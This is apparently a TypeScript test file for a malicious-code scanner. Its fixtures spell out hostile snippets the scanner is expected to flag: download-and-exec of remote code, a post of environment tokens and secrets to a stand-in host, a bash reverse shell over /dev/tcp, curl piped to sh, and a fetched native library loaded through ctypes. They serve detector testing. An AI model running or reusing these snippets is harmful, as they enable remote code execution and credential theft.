// What relation, place and path do to a verdict; the incidents and the rules' examples have the rest.
import { describe, expect, it } from 'vitest';
import { memoryBytes } from '../../../src/core/bytes.ts';
import { decision, judged, verdicts } from './support.ts';

const lines = (...all: string[]): string => `${all.join('\n')}\n`;

describe('characters without width', () => {
  it('block where they may be a part of a name or spell a message, and are a note where they were copied along', async () => {
    expect(await verdicts('a.py', '# finnish--9069599\u200b4628\n')).toEqual(['CODE-INVISIBLE LOW']);
    expect(await verdicts('a.js', 'const is\u200dAdmin = true;\n')).toEqual(['CODE-INVISIBLE HIGH']);
    expect(await verdicts('a.py', `x = '${'a\u2060'.repeat(40)}a'\n`)).toEqual(['CODE-INVISIBLE HIGH']);
  });
});

describe('relations', () => {
  it('follows a value through functions, attributes and files', async () => {
    expect(
      await verdicts(
        'a.py',
        lines(
          'import requests',
          'def get():',
          '    return requests.get("https://x.example.invalid").text',
          'exec(get())',
        ),
      ),
    ).toEqual(['CODE-DOWNLOAD-EXECUTE CRITICAL']);
    expect(
      await verdicts(
        'a.py',
        lines(
          'import os, requests',
          'with open("/tmp/x", "wb") as f:',
          '    f.write(requests.get("https://x.example.invalid").content)',
          'os.system("/tmp/x")',
        ),
      ),
    ).toEqual(['CODE-DOWNLOAD-RUN CRITICAL']);
  });

  it('takes one function for less than a flow, and one file for less again', async () => {
    const near = lines(
      'import requests',
      'def f(x):',
      '    requests.get("https://x.example.invalid")',
      '    exec(x)',
    );
    const far = lines(
      'import requests',
      'def f():',
      '    requests.get("https://x.example.invalid")',
      'def g(x):',
      '    exec(x)',
    );
    expect(await verdicts('a.py', near)).toEqual(['CODE-DOWNLOAD-EXECUTE HIGH']);
    expect(await verdicts('a.py', far)).toEqual(['CODE-DOWNLOAD-EXECUTE LOW']);
  });

  it('does not take what is fetched from this machine for a download', async () => {
    expect(
      await decision(
        'a.py',
        lines('import requests', 'def f(x):', '    requests.get("http://127.0.0.1:8000/")', '    exec(x)'),
      ),
    ).toBe('pass');
  });

  it('weighs what tests have near each other more lightly, but not what flows', async () => {
    const near = lines(
      'import requests',
      'def f(x):',
      '    requests.get("https://x.example.invalid")',
      '    exec(x)',
    );
    const flow = lines('import requests', 'exec(requests.get("https://x.example.invalid").text)');
    expect(await decision('tests/test_a.py', near)).toBe('review');
    expect(await decision('tests/test_a.py', flow)).toBe('block');
    expect(await decision('tests/conftest.py', near)).toBe('block');
  });

  it('gives a fetched argument of a program no more than it is', async () => {
    expect(
      await decision(
        'a.py',
        lines(
          'import requests, subprocess',
          'tag = requests.get("https://api.example.com/tag").text',
          'subprocess.run(["git", "checkout", tag])',
        ),
      ),
    ).toBe('pass');
  });

  it('sees the two ends of a message to a shell', async () => {
    expect(
      await decision(
        'a.py',
        lines(
          'import requests, subprocess',
          'subprocess.run(["bash"], input=requests.get("https://x.example.invalid").content)',
        ),
      ),
    ).toBe('block');
  });
});

describe('payloads that are not values', () => {
  it.each([
    [
      'a module that is fetched and imported',
      'a.py',
      lines(
        'import urllib.request',
        'urllib.request.urlretrieve("https://x.example.invalid/p", "plugin_x.py")',
        'import plugin_x',
      ),
    ],
    [
      'secrets picked out of the environment',
      'a.py',
      lines(
        'import os, requests',
        'found = {k: os.environ[k] for k in os.environ if "TOKEN" in k or "SECRET" in k}',
        'requests.post("https://x.example.invalid", json=found)',
      ),
    ],
    [
      'a callback that gathers what arrives',
      'a.js',
      'const { exec } = require("child_process");\nrequire("https").get("https://x.example.invalid", (r) => { let b = ""; r.on("data", (d) => (b += d)); r.on("end", () => exec(b)); });\n',
    ],
    [
      'a decorator',
      'a.py',
      lines(
        'import requests',
        '@exec',
        '@lambda f: requests.get("https://x.example.invalid").text',
        'def x(): pass',
      ),
    ],
    ['a session of bash over a file of the network', 'a.sh', 'bash -i >& /dev/tcp/198.51.100.1/4444 0>&1\n'],
    [
      'native code',
      'a.py',
      lines(
        'import ctypes, urllib.request',
        'urllib.request.urlretrieve("https://x.example.invalid/l", "/tmp/l.so")',
        'ctypes.CDLL("/tmp/l.so")',
      ),
    ],
  ])('%s is blocked', async (_, path, text) => {
    expect(await decision(path, text)).toBe('block');
  });
});

describe('programs inside programs', () => {
  it('are read in turn and stand where they begin', async () => {
    const findings = await judged(
      'a.py',
      lines('import os', 'x = 1', 'os.system("curl -s https://x.example.invalid/i | sh")'),
    );
    expect(findings).toMatchObject([{ rule: 'CODE-PIPE-SHELL', severity: 'HIGH', location: { line: 3 } }]);
    expect(findings[0]?.evidence).toContain('in a program of shell that stands in line 3');
  });
});

describe('subjects', () => {
  const payload = (host: string): string =>
    lines('import requests', `exec(requests.get("https://${host}/x").text)`);

  it('stay when lines move, and change with the payload', async () => {
    const [first] = await judged('a.py', payload('a.example.invalid'));
    const [moved] = await judged('a.py', `# a comment\n\n${payload('a.example.invalid')}`);
    const [other] = await judged('a.py', payload('b.example.invalid'));
    expect(moved?.subject).toBe(first?.subject);
    expect(other?.subject).not.toBe(first?.subject);
  });

  it('tell a new payload from the old one beside it', async () => {
    const findings = await judged('a.py', payload('a.example.invalid') + payload('b.example.invalid'));
    expect(new Set(findings.map(({ subject }) => subject)).size).toBe(2);
  });
});

describe('what cannot be read', () => {
  it('is said of programs in an encoding that hides code', async () => {
    expect(await verdicts('a.py', '# coding: utf-7\n+AHAAcgBpAG4AdA-(1)\n')).toContain(
      'SCAN-INCOMPLETE HIGH',
    );
    expect(await decision('a.py', '# coding: latin-1\nprint(1)\n')).toBe('pass');
  });

  it('is said of programs that are too long', async () => {
    expect(await verdicts('a.py', 'x = 1\n'.repeat(900_000))).toContain('SCAN-INCOMPLETE MEDIUM');
  }, 60_000);

  it('is not said of Python 2 or of a line that does not fit', async () => {
    expect(await verdicts('a.py', 'print "hello"\nx = 1\n')).toEqual([]);
    expect(await verdicts('a.py', 'x = [1., 2., 3.]\n'.repeat(50))).toEqual([]);
  });
});

describe('pins', () => {
  const commit = '0123456789'.repeat(4);
  const load = (revision: string): string =>
    lines('from transformers import AutoModel', `AutoModel.from_pretrained("org/model"${revision})`);
  const before = (text: string) => ({
    before: () =>
      Promise.resolve({ locator: { path: 'a.py', members: [] }, bytes: memoryBytes(Buffer.from(text)) }),
  });
  const moved = async (then: string, now: string): Promise<string[]> =>
    (await judged('a.py', load(now), before(load(then))))
      .filter(({ rule }) => rule === 'LOAD-REVISION-MOVED')
      .map(({ severity }) => severity);

  it('that are taken away or made a branch need a review; another commit is a note', async () => {
    expect(await moved(`, revision="${commit}"`, '')).toEqual(['MEDIUM']);
    expect(await moved(`, revision="${commit}"`, ', revision="main"')).toEqual(['MEDIUM']);
    expect(await moved(`, revision="${commit}"`, `, revision="${commit.slice(1)}a"`)).toEqual(['LOW']);
    expect(await moved(`, revision="${commit}"`, `, revision="${commit}"`)).toEqual([]);
    expect(await moved('', ', revision="main"')).toEqual([]);
  });
});
